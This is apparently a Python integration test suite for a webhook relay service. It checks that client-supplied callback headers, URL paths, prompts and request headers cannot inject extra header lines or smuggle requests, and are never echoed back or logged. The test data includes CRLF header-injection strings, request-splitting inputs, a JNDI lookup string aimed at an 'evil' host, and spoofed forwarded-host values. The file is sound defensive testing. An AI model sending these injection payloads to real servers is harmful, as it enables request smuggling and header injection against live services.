"""What clients write goes out as what it is: a header's value stays one, and so does a path. Judged at raw sockets."""

import asyncio
import contextlib
import json
import re
from collections import Counter
from collections.abc import AsyncIterator, Callable, Coroutine, Iterator, Mapping
from dataclasses import dataclass, field, replace
from typing import Any, TypeVar
from urllib.parse import parse_qsl, unquote_to_bytes

import aiohttp
import pytest
import structlog
from hypothesis import example, given, settings
from hypothesis import strategies as st

from relay import __version__
from relay.api import intake
from relay.api.fields import Rules
from relay.api.problems import Problem
from relay.api.schemas import JobRequest
from relay.api.validation import pointer, validate
from relay.core.callback import Message, headers_of
from relay.core.egress import (
    Answered,
    CallbackGuard,
    CallbackSession,
    RefusedUrl,
    UrlPolicy,
    callback_session,
    parse_callback_url,
    post_callback,
    upstream_session,
)
from relay.core.model import Callback, EventType, Job, JobSpec
from relay.core.settings import SCRAPERS, Settings
from relay.core.signing import new_secret
from tests.integration.conftest import ACME_KEY, HandWorker, RelayClient, run_relay
from worker.upstream import UpstreamClient, query_of

LOOPBACK = "127.0.0.0/8"
POLICY = UrlPolicy(
    allowed_networks=tuple(Settings.load(_env_file=None, callback_allowed_networks=LOOPBACK).callback_allowed_networks)
)
RULES = Rules(scrapers=SCRAPERS, thin=False)
SECRETS = (new_secret(),)
BODY = b'{"type":"job.completed"}'
NOW_S = 1_767_225_600

T = TypeVar("T")


@dataclass(slots=True)
class Receiver:
    """Writes down every request, byte by byte. What is sent beyond a request would be the beginning of another one."""

    port: int = 0
    requests: list[tuple[list[str], bytes]] = field(default_factory=list)

    async def serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        """Answer whatever comes on one connection."""
        with contextlib.suppress(ConnectionError, asyncio.IncompleteReadError, asyncio.CancelledError):
            while True:
                head = (await reader.readuntil(b"\r\n\r\n")).decode("latin-1").removesuffix("\r\n\r\n").split("\r\n")
                lengths = [line for line in head if line.lower().startswith("content-length:")]
                body = await reader.readexactly(sum(int(line.partition(":")[2]) for line in lengths))
                self.requests.append((head, body))
                writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")
        writer.transport.abort()

    def only(self) -> tuple[str, Counter[str], bytes]:
        """The first line, all others and the body of the one request that came since this was asked before."""
        [(head, body)] = self.requests
        self.requests.clear()
        return head[0], Counter(head[1:]), body


@contextlib.asynccontextmanager
async def receiving() -> AsyncIterator[Receiver]:
    """A receiver on loopback."""
    receiver, tasks = Receiver(), set[asyncio.Task[None]]()

    def connected(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        task = asyncio.create_task(receiver.serve(reader, writer))
        tasks.add(task)
        task.add_done_callback(tasks.discard)

    server = await asyncio.start_server(connected, "127.0.0.1", 0, limit=1024 * 1024)
    receiver.port = server.sockets[0].getsockname()[1]
    try:
        yield receiver
    finally:
        server.close()
        for task in tasks:
            task.cancel()
        await asyncio.gather(*tasks)


@contextlib.asynccontextmanager
async def sending() -> AsyncIterator[tuple[Receiver, CallbackSession]]:
    """A receiver, and the session that workers send callbacks with."""
    allowed = Settings.load(_env_file=None, callback_allowed_networks=LOOPBACK)
    async with receiving() as receiver, CallbackGuard(allowed) as guard, callback_session(allowed, guard) as session:
        yield receiver, session


@contextlib.asynccontextmanager
async def asking() -> AsyncIterator[aiohttp.ClientSession]:
    """The session that workers ask the upstream with."""
    async with upstream_session(Settings.load(_env_file=None)) as session:
        yield session


class Loop:
    """Runs the examples of one property in one loop, with what they share."""

    def __init__(self, runner: asyncio.Runner, stack: contextlib.AsyncExitStack) -> None:
        self._stack = stack
        self.run: Callable[[Coroutine[Any, Any, Any]], Any] = runner.run

    def enter(self, context: contextlib.AbstractAsyncContextManager[T]) -> T:
        """Enter `context` until the end of the property."""
        entered: T = self.run(self._stack.enter_async_context(context))
        return entered


@pytest.fixture(name="loop")
def fixture_loop() -> Iterator[Loop]:
    """A loop."""
    with asyncio.Runner() as runner:
        stack = contextlib.AsyncExitStack()
        yield Loop(runner, stack)
        runner.run(stack.aclose())


# Headers of callbacks

#: What ends a line, a name or a string somewhere, or is no single byte.
_HOSTILE = "\r\n\0\t :;,é\x7f\x85\x0b\u2028\u010a\u560a😀"
_TOKEN = "!#$%&'*+-.^_`|~019azAZ"
_RESERVED = (
    *("host", "content-type", "content-length", "content-encoding", "content-anything", "webhook-id", "webhook-x"),
    *("webhook-signature", "webhook-timestamp", "relay-attempt", "user-agent", "accept-encoding", "expect", "cookie"),
    *("proxy-authorization", "proxy-x", "connection", "keep-alive", "te", "trailer", "transfer-encoding", "upgrade"),
)


def _in_any_case(name: str) -> st.SearchStrategy[str]:
    return st.tuples(*(st.sampled_from([letter.lower(), letter.upper()]) for letter in name)).map("".join)


_NAMES = st.one_of(
    st.text(_TOKEN, min_size=1, max_size=12),
    st.text(_TOKEN, min_size=1, max_size=12),
    st.sampled_from(["Authorization", "X-Trace", "Accept", "Date", "From", "Via", "Contents", "Hosts", "[key]", "~/"]),
    st.sampled_from(_RESERVED).flatmap(_in_any_case),
    st.tuples(st.sampled_from(_RESERVED), st.sampled_from(_HOSTILE)).map("".join),
    st.text(_TOKEN + _HOSTILE, max_size=6),
    st.sampled_from([3000, 5000]).map("n".__mul__),
)
_VALUES = st.one_of(
    st.text(st.characters(min_codepoint=0x20, max_codepoint=0x7E), max_size=20),
    st.text(" \tab:", max_size=6),
    st.text("ab" + _HOSTILE, max_size=4),
    st.sampled_from(
        [
            "a\r\nX-Evil: 1",
            "a\nX-Evil: 1",
            "a\rX-Evil: 1",
            "a\r\n\r\nPOST / HTTP/1.1",
            "a\r\n b",
            "\r\n",
            "%0d%0aX-Evil:",
        ]
    ),
    st.sampled_from([4095, 4096, 4097]).map("v".__mul__),
)
_HEADERS = st.dictionaries(_NAMES, _VALUES, max_size=4) | st.dictionaries(
    st.text("ab-", min_size=1, max_size=8), st.just("v") | st.just("v" * 1000), max_size=22
)


def taken(headers: Mapping[str, str]) -> bool:
    """Whether docs/api.md allows these headers."""
    lower = [name.lower() for name in headers]
    return (
        len(headers) <= 20
        and len(set(lower)) == len(lower)
        and sum(len(name) + len(value) for name, value in headers.items()) <= 16 * 1024
        and all(name and set(name) <= set("!#$%&'*+-.^_`|~") | set(map(chr, _LETTERS_AND_DIGITS)) for name in headers)
        and not any(name in _RESERVED or name.startswith(("content-", "webhook-", "proxy-")) for name in lower)
        and all(len(value) <= 4096 and re.fullmatch(r"[ -~\t]*", value) for value in headers.values())
    )


_LETTERS_AND_DIGITS = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"


def accept(headers: Mapping[str, str]) -> Callback:
    """The callback of a job with these headers, as the API makes it. Raises Problem."""
    job = {"scraper": "chatgpt", "prompt": "x", "callback_url": "http://127.0.0.1/", "callback_headers": headers}
    draft = intake.draft_job(validate(JobRequest, json.loads(json.dumps(job)), RULES))
    return intake.callback_of(draft, {"http://127.0.0.1/": parse_callback_url("http://127.0.0.1/", POLICY)})


def own_lines(headers: Mapping[str, str], port: int) -> Counter[str]:
    """The header lines of a callback but for those of `headers` that are the client's."""
    lines = Counter(
        [f"Host: 127.0.0.1:{port}", "Accept-Encoding: identity", f"Content-Length: {len(BODY)}"]
        + [f"{name}: {value}" for name, value in headers.items()]
    )
    if "accept" not in {name.lower() for name in headers}:
        lines["Accept: */*"] += 1
    lines[f"User-Agent: scrapellm-relay/{__version__}"] += 1
    return lines


def test_a_header_that_is_taken_is_one_line(loop: Loop) -> None:
    """What is accepted reaches the receiver as it was written, one line each; the rest is 422 and says where."""
    receiver, session = loop.enter(sending())
    outcomes: Counter[bool] = Counter()

    @settings(max_examples=600)
    @given(_HEADERS)
    @example({"X": "a\r\nX-Evil: 1"})
    @example({"X: a\r\nX-Evil": "1"})
    @example({"X": "", "Y": " ", "Z": "\t \t", "W": " a\tb "})
    @example({f"h{number}": "v" for number in range(20)})
    @example({"AUTHORIZATION": "Bearer x", "accept": "text/plain"})
    @example({"x": "1", "X": "2"})
    @example({"ſet-cookie": "x", "\u212aeep-alive": "x"})
    def check(headers: dict[str, str]) -> None:
        try:
            callback = accept(headers)
        except Problem as problem:
            refused(problem, headers)
            outcomes[False] += 1
            return
        assert taken(headers)
        outcomes[True] += 1
        message = Message("msg_job_1", EventType.JOB_COMPLETED, callback, "application/json", BODY)
        sent = headers_of(message, SECRETS, attempt=1, now_s=NOW_S)
        url = f"http://127.0.0.1:{receiver.port}/hook"
        assert isinstance(loop.run(post_callback(session, url, sent, BODY, 5.0)), Answered)
        first, lines, body = receiver.only()
        assert (first, body) == ("POST /hook HTTP/1.1", BODY)
        assert lines == own_lines(sent, receiver.port)
        assert {name: sent[name] for name in headers} == headers
        assert set(sent) - set(headers) == {
            *("Content-Type", "webhook-id", "webhook-timestamp", "webhook-signature", "relay-attempt")
        }

    check()
    assert min(outcomes[True], outcomes[False]) > 50


def refused(problem: Problem, headers: Mapping[str, str]) -> None:
    """Check that a refusal was right, points at a header of the client's, and repeats no value."""
    assert not taken(headers)
    assert (problem.status, problem.code) == (422, "invalid_request")
    places = {pointer("callback_headers"), *(pointer("callback_headers", name) for name in headers)}
    assert problem.faults
    assert {(fault.kind, fault.at in places) for fault in problem.faults} == {("pointer", True)}
    said = " ".join(fault.detail for fault in problem.faults)
    # Shorter ones may be words of the sentence by chance.
    assert not any(value in said for value in headers.values() if len(value) > 60 or "X-Evil" in value)
    assert isinstance(problem.response().body, bytes)


@pytest.mark.parametrize(
    ("headers", "places"),
    [
        ({"X": "a\r\nX-Evil: 1"}, ["/callback_headers/X"]),
        ({"X": "a\n"}, ["/callback_headers/X"]),
        ({"X": "a\0"}, ["/callback_headers/X"]),
        ({"X": "\u010a"}, ["/callback_headers/X"]),
        ({"X\r\nX-Evil": "1"}, ["/callback_headers/X\r\nX-Evil"]),
        ({"X: a": "1", "Y ": "1"}, ["/callback_headers/X: a", "/callback_headers/Y "]),
        ({"a/~b\0": "1"}, ["/callback_headers/a~1~0b\0"]),
        ({"Transfer-encoding": "chunked"}, ["/callback_headers/Transfer-encoding"]),
        ({"CONTENT-LENGTH": "0"}, ["/callback_headers/CONTENT-LENGTH"]),
        ({"Webhook-Signature": "v1,x"}, ["/callback_headers/Webhook-Signature"]),
        ({"x": "1", "X": "2"}, ["/callback_headers"]),
    ],
)
async def test_a_refused_header_is_stored_nowhere(
    relay_client: RelayClient, headers: dict[str, str], places: list[str]
) -> None:
    """The whole way, over HTTP: 422 with a pointer, and no job."""
    answer = await relay_client.submit(callback_headers=headers)
    assert (answer.status, answer.code) == (422, "invalid_request")
    assert answer.faults == [("pointer", place) for place in places]
    assert (await relay_client.call("GET", "/v1/jobs")).json["data"] == []


async def test_a_header_goes_the_whole_way(store_url: str, hand_worker: HandWorker) -> None:
    """From the API through the store to the receiver: the same lines, and the same path and query."""
    headers = {"Authorization": "Bearer a.b-c_d", "x-ODD-case": " a\tb: c  ", "X-Empty": "", "X": "%0d%0aX-Evil: 1"}
    async with run_relay(store_url, callback_allowed_networks=LOOPBACK) as relay, sending() as (receiver, session):
        url = f"http://127.0.0.1:{receiver.port}/a%0d%0aX-Evil:%201/ü?q=%0D%0A%0D%0A&r=é#part"
        made = await relay.submit(callback_headers=headers, callback_url=url)
        assert made.status == 202, made.body
        await hand_worker.submit_all()
        await hand_worker.finish_all()
        [claim] = await hand_worker.store.begin_deliver(10)
        assert isinstance(claim.subject, Job)
        callback = claim.subject.spec.callback
        message = Message("msg_job_1", EventType.JOB_COMPLETED, callback, "application/json", BODY)
        sent = headers_of(message, SECRETS, attempt=1, now_s=NOW_S)
        await post_callback(session, callback.url, sent, BODY, 5.0)
        first, lines, body = receiver.only()
    assert first == "POST /a%0d%0aX-Evil:%201/%C3%BC?q=%0D%0A%0D%0A&r=%C3%A9 HTTP/1.1"
    assert lines == own_lines(sent, receiver.port)
    assert all(lines[f"{name}: {value}"] == 1 for name, value in headers.items())
    assert body == BODY


# Paths and queries

_PARTS = st.one_of(
    st.text("ab/?&=;.%:@+~!$'()*,[]{}|^`<>\"", max_size=10),
    st.sampled_from(
        ["%0d%0a", "%0D%0AX-Evil:%201", "%00", "%20HTTP/1.1", "%zz", "..", "//", "é", "\u560d\u560a", "😀"]
    ),
    st.sampled_from(["\r\n", "\r\nX-Evil: 1", "\n", " ", " HTTP/1.1\r\n", "\t", "\0", "\x85", "\u2028", "\\", "\x7f"]),
    st.sampled_from(["#", "#\r\n", "?", "??"]),
    st.just("p" * 700),
)


def refusal(url: str) -> str:
    """Why no callback goes there; empty where one does."""
    try:
        parse_callback_url(url, POLICY)
    except RefusedUrl as error:
        return error.reason
    return ""


def test_a_path_stays_one(loop: Loop) -> None:
    """Whatever follows the host of an accepted URL, one request goes out: the path and the query as they were given."""
    receiver, session = loop.enter(sending())
    outcomes: Counter[bool] = Counter()

    @settings(max_examples=600)
    @given(st.sampled_from(["/", "?", ""]), st.lists(_PARTS, max_size=4).map("".join))
    @example("/", "a\r\nX-Evil: 1")
    @example("/", "%0d%0aX-Evil:%201")
    @example("/", " HTTP/1.1\r\nX-Evil: 1\r\n\r\n")
    @example("?", "a b")
    @example("/", "é?ü#ö")
    def check(begin: str, rest: str) -> None:
        # Without a path or a query the rest would be one of the port.
        tail = begin + rest if begin else ""
        url = f"http://127.0.0.1:{receiver.port}{tail}"
        if reason := refusal(url):
            assert len(url) > 2048 or re.search(r"[\s\x00-\x20\x7f-\x9f\\]", tail)
            assert "X-Evil" not in reason
            outcomes[False] += 1
            return
        outcomes[True] += 1
        sent = {"Content-Type": "application/json"}
        assert isinstance(loop.run(post_callback(session, url, sent, BODY, 5.0)), Answered)
        first, lines, body = receiver.only()
        shown = re.fullmatch(r"POST (/[!-~]*) HTTP/1\.1", first)
        assert shown is not None, first
        path, _, query = tail.partition("#")[0].partition("?")
        wanted = (path or "/") + (f"?{query}" if query else "")
        assert unquote_to_bytes(shown[1]) == unquote_to_bytes(wanted)
        assert not wanted.isascii() or shown[1] == wanted
        assert (lines, body) == (own_lines(sent, receiver.port), BODY)

    check()
    assert min(outcomes[True], outcomes[False]) > 50


_PARAMS = st.dictionaries(
    st.text("abAB09_.-", min_size=1, max_size=8),
    st.text("a&=#+%;\r\n\0 é😀", max_size=8) | st.integers(-(2**53), 2**53) | st.booleans(),
    max_size=3,
)


def test_a_prompt_stays_one(loop: Loop) -> None:
    """Prompts and parameters reach the upstream as values of the query, whatever is in them, and nothing else does."""
    receiver, session = loop.enter(receiving()), loop.enter(asking())
    base = f"http://127.0.0.1:{receiver.port}/v1"
    client = UpstreamClient(session, base, max_bytes=1000, now_ms=lambda: 0)
    spec = JobSpec("chatgpt", "", "US", 300, False, 960, Callback("http://127.0.0.1/", "127.0.0.1:80", ()))

    @settings(max_examples=300)
    @given(st.text("a&=#+%?/\\ \r\n\té\x7f\x85\u2028😀", min_size=1, max_size=30), _PARAMS)
    @example("a HTTP/1.1\r\nX-API-Key: other\r\n\r\nGET / HTTP/1.1", {})
    @example("%0d%0a", {"a": "b\r\nc&prompt=d"})
    def check(prompt: str, params: dict[str, Any]) -> None:
        asked = replace(spec, prompt=prompt, params=params)
        loop.run(client.submit(asked, "the-upstream-key", timeout_s=5))
        first, lines, body = receiver.only()
        shown = re.fullmatch(r"POST /v1/scrapers/chatgpt/jobs\?([!-~]+) HTTP/1\.1", first)
        assert shown is not None, first
        assert parse_qsl(shown[1], keep_blank_values=True, strict_parsing=True) == list(query_of(asked).items())
        assert body == b""
        assert sorted(line.partition(":")[0].lower() for line in lines.elements()) == [
            *("accept", "accept-encoding", "content-length", "content-type", "host", "user-agent", "x-api-key")
        ]
        assert lines["X-API-Key: the-upstream-key"] == 1

    check()


# What comes in

#: The headers that an answer may have.
_ANSWERED = frozenset(
    (
        *("allow", "cache-control", "connection", "content-length", "content-security-policy", "content-type", "date"),
        *("cross-origin-resource-policy", "location", "idempotency-replayed", "referrer-policy", "retry-after"),
        *("server", "www-authenticate", "x-accel-buffering", "x-content-type-options", "x-frame-options"),
    )
)
_KEY = f"X-API-Key: {ACME_KEY}\r\n".encode()
_JOB = json.dumps({"scraper": "chatgpt", "prompt": "x", "callback_url": "https://203.0.113.7/"}).encode()


def incoming(first: bytes, *lines: bytes, body: bytes = b"") -> bytes:
    """A request as bytes."""
    more = b"".join(line + b"\r\n" for line in lines)
    if body:
        more += b"Content-Type: application/json\r\nContent-Length: %d\r\n" % len(body)
    return first + b" HTTP/1.1\r\nHost: x\r\nConnection: close\r\n" + _KEY + more + b"\r\n" + body


async def heard(relay: RelayClient, sent: bytes) -> tuple[int, dict[str, str], bytes]:
    """Status, headers (names in lower case) and body of the one answer."""
    raw = await relay.raw(sent)
    head, _, body = raw.partition(b"\r\n\r\n")
    first, *lines = head.decode("ascii").split("\r\n")
    pairs = [(name.lower(), value) for name, _, value in (line.partition(": ") for line in lines)]
    assert len(dict(pairs)) == len(pairs)
    assert set(dict(pairs)) <= _ANSWERED
    assert raw.count(b"HTTP/1.") == 1
    return int(first.split(" ")[1]), dict(pairs), body


@pytest.mark.parametrize(
    "value",
    [
        *(b"", b" ", b"a b", b"a\tb", b"\xe9", "ключ".encode(), "\u560d\u560a".encode(), b"k" * 256, b"k" * 10_000),
        *(b"a\xa0", b"a\x85b", b"\xff"),
    ],
)
async def test_an_idempotency_key_that_is_none(relay_client: RelayClient, value: bytes) -> None:
    """It is refused with the header's name, is not quoted, and makes no job."""
    sent = incoming(b"POST /v1/jobs", b"Idempotency-Key: " + value, body=_JOB)
    status, _, body = await heard(relay_client, sent)
    assert status == 422
    assert json.loads(body)["code"] == "idempotency_key_invalid"
    assert [fault["header"] for fault in json.loads(body)["errors"]] == ["Idempotency-Key"]
    assert (await relay_client.call("GET", "/v1/jobs")).json["data"] == []


ECHOED = {
    "idempotency key": incoming(b"POST /v1/jobs", b"Idempotency-Key: evil-%0d%0aX-Evil:1", body=_JOB),
    "request id": incoming(b"GET /v1/jobs", b"X-Request-Id: evil-1\t\x80", b"X-Correlation-Id: evil-2"),
    "trace": incoming(b"GET /v1/jobs", b"traceparent: 00-evil-evil-01", b"tracestate: evil=1", b"baggage: evil=1"),
    "origin": incoming(b"OPTIONS /v1/jobs", b"Origin: https://evil.example", b"Access-Control-Request-Headers: evil"),
    "forwarded": incoming(b"GET /", b"X-Forwarded-Host: evil.example", b"Forwarded: host=evil.example;proto=evil"),
    "event id": incoming(b"HEAD /v1/events", b"Last-Event-ID: evil-\x80"),
    "agent": incoming(b"GET /v1/jobs", b"User-Agent: evil ${jndi:ldap://evil}", b"Referer: https://evil.example"),
    "cookie": incoming(b"GET /v1/jobs", b"Cookie: evil=1", b"Accept: text/evil", b"Range: bytes=0-evil"),
    "path": incoming(b"GET /v1/jobs/%0d%0aX-Evil:%201"),
    "path of a destination": incoming(b"GET /v1/destinations/evil%0d%0aX-Evil:%201"),
    "path of a cancel": incoming(b"POST /v1/jobs/job_%0d%0aX-Evil:%201/cancel"),
    "path of the docs": incoming(b"GET /docs/%0d%0aX-Evil:%201"),
    "path with a host": incoming(b"GET //evil.example/%2e%2e"),
    "absolute path": incoming(b"GET http://evil.example/"),
    "query": incoming(b"GET /v1/jobs?cursor=%0d%0aX-Evil:%201"),
    "method": incoming(b"SEARCH /v1/jobs?evil"),
    "token": incoming(b"GET /v1/results/evil%0d%0aX-Evil:%201"),
}


@pytest.mark.parametrize("sent", ECHOED.values(), ids=ECHOED.keys())
async def test_nothing_comes_back_in_a_header(
    relay_client: RelayClient, capfd: pytest.CaptureFixture[str], sent: bytes
) -> None:
    """What a client sends, in whatever header or path, is in no header of the answer and in no line of the log."""
    with structlog.testing.capture_logs() as logged:
        status, headers, body = await heard(relay_client, sent)
    assert status < 500
    assert "evil" not in repr(headers).lower()
    assert b"evil" not in body.lower()
    assert logged
    assert "evil" not in (repr(logged) + "".join(capfd.readouterr())).lower()
    if "location" in headers:
        assert re.fullmatch(r"/dashboard|/v1/jobs/job_[0-9a-z]{26}", headers["location"])


async def test_a_replay_says_so_and_no_more(relay_client: RelayClient) -> None:
    """The same key again: one header tells it, with a word of the relay's own."""
    sent = incoming(b"POST /v1/jobs", b"Idempotency-Key: evil-key", body=_JOB)
    first, second = await heard(relay_client, sent), await heard(relay_client, sent)
    assert (first[0], second[0]) == (202, 202)
    assert ("idempotency-replayed" in first[1], second[1]["idempotency-replayed"]) == (False, "true")
    assert "evil" not in repr(second[1])
    assert json.loads(first[2])["id"] == json.loads(second[2])["id"]
